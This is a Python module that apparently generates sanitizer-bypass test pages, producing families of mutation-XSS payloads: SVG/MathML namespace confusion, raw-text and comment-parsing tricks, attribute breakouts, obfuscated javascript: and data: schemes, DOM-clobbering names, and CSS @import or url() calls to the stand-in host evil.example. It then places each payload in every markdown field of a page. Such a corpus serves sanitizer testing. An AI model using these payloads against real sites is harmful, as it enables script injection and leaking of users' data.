"""Markup made to be read in one way by whoever cleans it and in another by a browser.

Built by families, each an idea of how the two can be parted, and each idea said in many ways.
What would run calls `alert` or asks for something on the host `evil.example`.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from itertools import product

LIVE = "<img src=//evil.example/x onerror=alert(1)>"


def families() -> dict[str, list[str]]:
    """Every payload, each on one line, by the name of its family."""
    return {make.__name__.strip("_"): [*dict.fromkeys(make())] for make in _FAMILIES}


def _namespaces() -> Iterator[str]:
    """Inside foreign content, `style` and its kin hold elements and not text; and back again."""
    ways = {
        "svg": ("desc", "title", "foreignObject", "style", "g"),
        "math": ("mtext", "mi", "mglyph", "malignmark", "annotation-xml encoding=text/html"),
    }
    for root, insides in ways.items():
        for inside, raw in product(insides, ("style", "title", "textarea", "xmp")):
            name = inside.split()[0]
            yield f'<{root}><{inside}><{raw}><a id="</{raw}>{LIVE}"></{raw}></{name}></{root}>'
            yield f"<{root}></p><{inside}></p><{raw}><!--</{raw}>{LIVE}--></{root}>"


def _raw_text() -> Iterator[str]:
    """Elements whose content is text with scripts on and markup with scripts off, or never ends."""
    raw = ("noscript", "noembed", "noframes", "xmp", "plaintext", "textarea", "title", "style")
    for name in (*raw, "script", "iframe", "template", "select", "option", "listing"):
        yield f'<{name}><p title="</{name}>{LIVE}">'
        yield f"<{name}>{LIVE}</{name}>"
        yield f"</{name}>{LIVE}"


def _remarks() -> Iterator[str]:
    """Remarks and declarations that end where only one of the two thinks that they do."""
    begins = ("<!-->", "<!--->", "<!---!>", "<!-- --!>", "<!-- --\u00a0>", "<!--!>", "<!-- <!-->")
    for begin in (
        *begins,
        "<![CDATA[>",
        "<?xml >",
        "<?>",
        "<!x>",
        "</ >",
        "<!DOCTYPE x[<!-->",
        "<%>",
    ):
        yield f"{begin}{LIVE}-->"
        yield f"a {begin}{LIVE}]]>"


def _attributes() -> Iterator[str]:
    """Out of the value that one stands in, and on to another attribute or element."""
    for quote, act in product("\"'`", ("onfocus", "onmouseover", "onanimationstart", "ontoggle")):
        yield f"x{quote} {act}=alert(1) autofocus tabindex=0 x={quote}"
        yield f"x{quote}>{LIVE}<x a={quote}"
    for gap in ("/", "\t", "\f", "\v", "\u00a0", "\u2028", "/*x*/", "&#32;", "x"):
        yield f"<img{gap}src=x{gap}onerror=alert(1)>"
        yield f"<svg{gap}onload{gap}={gap}alert(1)>"
    for name in ("details open", "video autoplay", "body", "marquee", "input autofocus", "audio"):
        yield f"<{name} src=x onload=alert(1) onerror=alert(1) onfocus=alert(1) ontoggle=alert(1)>"


def _schemes() -> Iterator[str]:
    """Addresses whose scheme is written so that a list of schemes does not see it."""
    hidden = {
        "javascript": "alert(1)",
        "vbscript": "alert(1)",
        "data": "text/html,<script>alert(1)</script>",
        "blob": "null/x",
        "view-source": "x",
        "file": "///etc/passwd",
        "intent": "//x#Intent;end",
    }
    for scheme, rest in hidden.items():
        for disguise in _DISGUISES:
            yield f"{disguise(scheme)}{rest}"


_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda s: f"{s}:",
    lambda s: f"{s.swapcase()}:",
    lambda s: f"{s[0].upper()}{s[1:]}&colon;",
    lambda s: f"{s}&#58;",
    lambda s: f"{s}&#x0000003A;",
    lambda s: f"{s[:2]}&Tab;{s[2:]}:",
    lambda s: f"{s[:3]}&NewLine;{s[3:]}:",
    lambda s: f"{s[:3]}&#x0d;{s[3:]}:",
    lambda s: f"&#1;{s}:",
    lambda s: f"&#xa0;&#32;{s}:",
    lambda s: "".join(f"&#{ord(c)};" for c in s) + ":",
    lambda s: "".join(f"%{ord(c):02x}" for c in s) + ":",
    lambda s: f"\u2000{s}:",
    lambda s: f"{s[:2]}\u00ad{s[2:]}:",
    lambda s: f"{s}\uff1a",
    lambda s: f"\\{s}:",
    lambda s: f"//evil.example/{s}:",
)


def _names() -> Iterator[str]:
    """Names by which an element takes the place of something that a script asks for."""
    names = ("API", "API_1484_11", "location", "document", "__proto__", "constructor", "kdll-data")
    for name in names:
        yield f"{{#{name}}}"
        yield f"<a id={name} name={name}>"
        yield f"<form id={name}><input name=attributes></form>"


def _styles() -> Iterator[str]:
    """What a look can ask for or give away."""
    for say in ("@import '//evil.example/a'", "*{background:url(//evil.example/a)}"):
        yield f"<style>{say}</style>"
        yield f"<svg><style>{say}</style></svg>"
        yield f'<p style="{say}">x</p>'
    yield "<link rel=stylesheet href=//evil.example/a>"
    yield '{style="background:url(//evil.example/a)"}'
    yield '{onclick="alert(1)"}'
    yield "<p style=width:expression(alert(1))>"


def _misnested() -> Iterator[str]:
    """What a parser moves elsewhere, so that a second reading finds another tree."""
    for outer, inner in product(
        ("table", "p", "form", "select", "a", "b"), ("math", "svg", "table")
    ):
        yield f"<{outer}><{inner}><mtext></{outer}><{outer}><mglyph><style></{inner}>{LIVE}"
        yield f"<{inner}><{outer}></{inner}><style><!--</style>{LIVE}-->"
    yield "<b>" * 200 + LIVE
    yield "<table><td>" * 60 + LIVE


_FAMILIES = (
    _namespaces,
    _raw_text,
    _remarks,
    _attributes,
    _schemes,
    _names,
    _styles,
    _misnested,
)


def page(payload: str, id: str) -> str:
    """A payload in every place of a page that takes an author's words, names or addresses.

    `id` names the page and its question.
    """
    bare = payload.replace("|", "\\|")
    return f"""---
id: {id}
title: {json.dumps(payload)}
description: {json.dumps(payload)}
---

{payload}

## {payload}

## x {payload}

[{payload}](https://lab.example/) [x]({payload}) [x](<{payload}>) [x](media/a.txt "{payload}")

![{payload}](media/clock.svg "{payload}")

<{payload}> `{payload}` =={payload}== ${payload}$ [^{payload}]

![x]({payload})

| {bare} | x |
| --- | --- |
| {bare} | {bare} |

> {payload}

- {payload}

x
: {payload}

```{payload}
{payload}
```

::: note {payload}

{payload}

:::

::: question {{#{id}-q {payload}}}

{payload}?

- [x] {payload}
  > {payload}
- [ ] b {payload}

> hint: {payload}

:::
"""
